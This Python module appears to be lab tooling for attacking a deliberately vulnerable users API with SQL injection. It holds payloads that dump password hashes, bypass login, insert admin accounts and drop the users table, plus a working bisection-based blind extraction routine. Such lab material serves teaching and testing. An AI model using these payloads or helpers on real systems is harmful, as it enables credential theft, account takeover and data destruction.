"""SQL injection and input abuse against a JSON users API (lab 07-injection).

Pure functions over ``httpx`` clients and strings, aimed at three routes:
``GET /api/users?email=`` (a lookup), ``POST /api/auth/login {email,password}`` and
``POST /api/users {email,name,age?}``. :data:`PAYLOADS` is the battery the lab replays —
every payload names its goal — and :func:`replay` judges one payload from the responses
alone, the way a scanner does: a 5xx means the payload reached the SQL, rows or a login
mean it changed the query, a stored value that differs from the one sent means it was
executed rather than stored.
"""

from __future__ import annotations

import secrets
import sys
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import Any, Literal

import httpx

__all__ = [
    "LOGIN",
    "PAYLOADS",
    "STACKED",
    "USERS",
    "Outcome",
    "Payload",
    "blind_extract",
    "column_count",
    "create",
    "login",
    "lookup",
    "lookup_oracle",
    "replay",
    "replay_all",
    "union_read",
    "wrong_type_bodies",
]

USERS, LOGIN = "/api/users", "/api/auth/login"
ASCII_END = 0x7F
Route = Literal["lookup", "login", "create"]

#: Two statements in one: sqlite3's ``execute`` refuses it, ``executescript`` would run it.
STACKED = "'; DROP TABLE users; --"
_UNION_HASHES = (
    "' UNION SELECT id, email, role, password_hash, token_version, password_hash, age FROM users --"
)


@dataclass(frozen=True)
class Payload:
    """One injection attempt: where it goes (route and field), what it sends, why.

    In a ``create`` payload, ``{email}`` in the value is replaced by a fresh address.
    """

    id: str
    route: Route
    field: str
    value: str
    goal: str


PAYLOADS: tuple[Payload, ...] = (
    # -- the lookup: GET /api/users?email= ------------------------------------------------
    Payload("tautology", "lookup", "email", "' OR '1'='1", "list every user"),
    Payload("tautology-comment", "lookup", "email", "' OR 1=1 --", "list every user"),
    Payload("mixed-case", "lookup", "email", "' oR 'a'='a", "slip past a case-sensitive filter"),
    Payload(
        "inline-comments", "lookup", "email", "'/**/OR/**/1=1/**/--", "slip past a space filter"
    ),
    Payload("like-wildcard", "lookup", "email", "' OR email LIKE '%", "list every user"),
    Payload("comment-out", "lookup", "email", "alice@example.com' --", "cut the query short"),
    Payload(
        "concatenation", "lookup", "email", "alice@example.com' || '", "inject with no keyword"
    ),
    Payload("no-comment", "lookup", "email", "alice@example.com' AND 'x'='x", "inject without --"),
    Payload("union-hashes", "lookup", "email", _UNION_HASHES, "read every password hash"),
    Payload(
        "union-schema",
        "lookup",
        "email",
        "' UNION SELECT 1, name, type, sql, 0, sql, 0 FROM sqlite_master --",
        "read the database schema",
    ),
    Payload(
        "union-version",
        "lookup",
        "email",
        "' UNION SELECT 1, sqlite_version(), 'x', 'x', 0, sqlite_version(), 0 --",
        "fingerprint the database",
    ),
    Payload(
        "union-nulls",
        "lookup",
        "email",
        "' UNION SELECT NULL, NULL, NULL, NULL, NULL, NULL, NULL --",
        "find the column count",
    ),
    Payload("order-by", "lookup", "email", "' ORDER BY 99 --", "probe the column count"),
    Payload(
        "blind-first-char",
        "lookup",
        "email",
        "alice@example.com' AND substr((SELECT password_hash FROM users"
        " WHERE role = 'admin'), 1, 1) = '$' --",
        "test one character of the admin's hash",
    ),
    Payload(
        "blind-bisect",
        "lookup",
        "email",
        "alice@example.com' AND unicode(substr((SELECT password_hash FROM users"
        " ORDER BY id LIMIT 1), 2, 1)) > 96 --",
        "halve the range of one character",
    ),
    Payload(
        "blind-length",
        "lookup",
        "email",
        "alice@example.com' AND length((SELECT password_hash FROM users"
        " WHERE role = 'admin')) > 50 --",
        "learn the length of a hash",
    ),
    Payload("stacked", "lookup", "email", STACKED, "drop the users table"),
    Payload("lone-quote", "lookup", "email", "alice@example.com'", "break the query"),
    # -- the login: POST /api/auth/login ---------------------------------------------------
    Payload("login-tautology", "login", "email", "' OR '1'='1", "log in as the first user"),
    Payload("login-as-bob", "login", "email", "' OR email = 'bob@example.com", "log in as bob"),
    Payload("login-admin", "login", "email", "' OR role = 'admin' --", "log in as an admin"),
    Payload("login-offset", "login", "email", "' OR 1=1 LIMIT 1 OFFSET 2 --", "log in as user 3"),
    Payload(
        "login-union",
        "login",
        "email",
        "' UNION SELECT id, email, role, token_version FROM users WHERE role = 'admin' --",
        "log in as a row of your choosing",
    ),
    Payload(
        "login-password",
        "login",
        "password",
        "x', password_hash) OR 1=1 --",
        "log in through the password field",
    ),
    # -- the insert: POST /api/users -------------------------------------------------------
    Payload(
        "insert-admin",
        "create",
        "name",
        "Mallory', NULL, 'admin', '') --",
        "create an account with role admin",
    ),
    Payload(
        "insert-subquery",
        "create",
        "name",
        "Eve' || (SELECT password_hash FROM users WHERE role = 'admin') || '",
        "copy the admin's hash into a readable field",
    ),
    Payload(
        "insert-age",
        "create",
        "age",
        "13', 'admin', '') --",
        "become admin through the age field",
    ),
    Payload(
        "insert-email",
        "create",
        "email",
        "{email}', 'Eve', NULL, 'admin', '') --",
        "become admin through the email field",
    ),
    Payload(
        "insert-stacked",
        "create",
        "name",
        "Robert', NULL, 'viewer', ''); DROP TABLE users; --",
        "drop the users table from an insert",
    ),
)


@dataclass(frozen=True)
class Outcome:
    """What one payload did: ``found`` is True when it changed or broke the query."""

    payload: Payload
    found: bool
    status: int
    evidence: str

    def __repr__(self) -> str:
        mark = "FOUND" if self.found else "nothing"
        return f"{mark:<7} {self.status} {self.payload.id:<18} {self.evidence}"


def lookup(client: httpx.Client, email: str) -> httpx.Response:
    """``GET /api/users?email=...``"""
    return client.get(USERS, params={"email": email})


def login(client: httpx.Client, email: str, password: str) -> httpx.Response:
    """``POST /api/auth/login``"""
    return client.post(LOGIN, json={"email": email, "password": password})


def create(client: httpx.Client, body: Any) -> httpx.Response:
    """``POST /api/users`` with any JSON body."""
    return client.post(USERS, json=body)


def fresh_email(tag: str = "attacker") -> str:
    """An address nobody has: ``attacker-1a2b3c4d@evil.example``."""
    return f"{tag}-{secrets.token_hex(4)}@evil.example"


def _json(response: httpx.Response) -> Any:
    try:
        return response.json()
    except ValueError:
        return None


def _broke(response: httpx.Response) -> str:
    body = _json(response)
    detail = ""
    if isinstance(body, dict):
        detail = str(body.get("detail") or body.get("labkitFault") or body.get("error") or "")
    return f"the query broke ({response.status_code}{': ' + detail[:80] if detail else ''})"


def _users(response: httpx.Response) -> list[dict[str, Any]]:
    body = _json(response)
    users = body.get("users") if isinstance(body, dict) else None
    return [u for u in users if isinstance(u, dict)] if isinstance(users, list) else []


def _judge_lookup(response: httpx.Response) -> tuple[bool, str]:
    if response.status_code >= 500:
        return True, _broke(response)
    found = _users(response)
    if response.status_code != 200 or not found:
        return False, f"no rows ({response.status_code})"
    hashes = sum("$argon2" in str(value) for user in found for value in user.values())
    leak = f", {hashes} password hash(es)" if hashes else ""
    return True, f"{len(found)} row(s) came back{leak}"


def _judge_login(response: httpx.Response) -> tuple[bool, str]:
    if response.status_code >= 500:
        return True, _broke(response)
    if response.status_code == 200:
        return True, "logged in without a password"
    return False, f"login refused ({response.status_code})"


def _judge_create(response: httpx.Response, body: dict[str, Any]) -> tuple[bool, str]:
    """Judge an insert by the stored user the API echoes back (201)."""
    if response.status_code >= 500:
        return True, _broke(response)
    if response.status_code != 201:
        return False, f"refused ({response.status_code})"
    stored = _json(response)
    if not isinstance(stored, dict):
        return True, "201 without the stored user"
    if stored.get("role") != "viewer":
        return True, f"the new account has role {stored.get('role')!r}"
    for field in ("email", "name"):
        sent, kept = body[field], stored.get(field)
        if kept not in (sent, sent.strip()):
            return True, f"the stored {field} is not the one sent: {str(kept)[:60]!r}"
    return False, "stored verbatim, as data"


def request_for(payload: Payload) -> tuple[str, dict[str, Any]]:
    """The (route, JSON body or query) that carries ``payload`` with harmless other fields."""
    if payload.route == "lookup":
        return payload.route, {"email": payload.value}
    if payload.route == "login":
        body = {"email": "nobody@example.com", "password": secrets.token_urlsafe(12)}
        body[payload.field] = payload.value
        return payload.route, body
    email = fresh_email("injector")
    body = {"email": email, "name": "Mallory"}
    body[payload.field] = payload.value.replace("{email}", email)
    return payload.route, body


def replay(client: httpx.Client, payload: Payload) -> Outcome:
    """Send one payload and judge the response (and for an insert, what was stored)."""
    route, data = request_for(payload)
    if route == "lookup":
        response = lookup(client, data["email"])
        found, evidence = _judge_lookup(response)
    elif route == "login":
        response = login(client, data["email"], data["password"])
        found, evidence = _judge_login(response)
    else:
        response = create(client, data)
        found, evidence = _judge_create(response, data)
    return Outcome(payload, found, response.status_code, evidence)


def replay_all(
    client: httpx.Client, payloads: Iterable[Payload] = PAYLOADS, *, progress: bool = False
) -> list[Outcome]:
    """Replay every payload; ``progress=True`` shows a tqdm bar."""
    items = list(payloads)
    return [replay(client, p) for p in _progress(items, "payloads", progress)]


# -- the techniques, one by one --------------------------------------------------------


def column_count(client: httpx.Client, limit: int = 20) -> int:
    """Columns of the lookup's ``SELECT *``: the first ``ORDER BY n`` that errors, minus one."""
    for n in range(1, limit + 1):
        if lookup(client, f"' ORDER BY {n} --").status_code >= 500:
            return n - 1
    raise ValueError(f"ORDER BY 1..{limit} never failed: the lookup may not be injectable")


def union_read(client: httpx.Client, select: str) -> list[dict[str, Any]]:
    """Rows of ``' UNION <select> --`` as the lookup shows them (its columns must match)."""
    response = lookup(client, f"' UNION {select} --")
    if response.status_code != 200:
        raise ValueError(f"the UNION did not go through: {response.status_code} {response.text}")
    return _users(response)


def lookup_oracle(client: httpx.Client, known_email: str) -> Callable[[str], bool]:
    """A yes/no question in SQL: does ``known_email`` come back with ``AND <condition>``?

    Only the *count* of rows is used — the technique works where no data is ever shown.
    """

    def ask(condition: str) -> bool:
        response = lookup(client, f"{known_email}' AND ({condition}) --")
        return bool(_users(response))

    return ask


def _bisect(ask: Callable[[str], bool], expression: str, low: int, high: int) -> int:
    """The integer value of ``expression`` in [low, high], in log2(high - low) questions."""
    while low < high:
        middle = (low + high) // 2
        if ask(f"{expression} > {middle}"):
            low = middle + 1
        else:
            high = middle
    return low


def blind_extract(
    ask: Callable[[str], bool],
    expression: str,
    *,
    max_length: int = 256,
    progress: bool = False,
) -> str:
    """Read the text value of an SQL ``expression`` one yes/no question at a time.

    First its length by bisection, then each character's code point by bisection
    (``unicode(substr(expr, i, 1)) > n``): about 7 questions a character for ASCII.
    """
    length = _bisect(ask, f"length(({expression}))", 0, max_length)
    chars = []
    for index in _progress(range(1, length + 1), "characters", progress):
        char = f"unicode(substr(({expression}), {index}, 1))"
        code = _bisect(ask, char, 0, ASCII_END)  # 7 questions for ASCII...
        if code == ASCII_END:  # ...and 14 more for anything beyond
            code = _bisect(ask, char, ASCII_END, sys.maxunicode)
        chars.append(chr(code))
    return "".join(chars)


def wrong_type_bodies(email: Callable[[], str] = fresh_email) -> dict[str, dict[str, Any]]:
    """Bodies whose ``age`` (or name) has the wrong type or range, by label."""
    return {
        "age is a word": {"email": email(), "name": "Type Test", "age": "abc"},
        "age is a list": {"email": email(), "name": "Type Test", "age": [30]},
        "age is an object": {"email": email(), "name": "Type Test", "age": {"$gt": 0}},
        "age is a boolean": {"email": email(), "name": "Type Test", "age": True},
        "age is a fraction": {"email": email(), "name": "Type Test", "age": 30.5},
        "age is negative": {"email": email(), "name": "Type Test", "age": -1},
        "name is a number": {"email": email(), "name": 12345},
    }


def _progress(items: Iterable[Any], desc: str, show: bool) -> Iterator[Any]:
    if not show:
        yield from items
        return
    from tqdm.auto import tqdm

    yield from tqdm(items, desc=desc, leave=True)
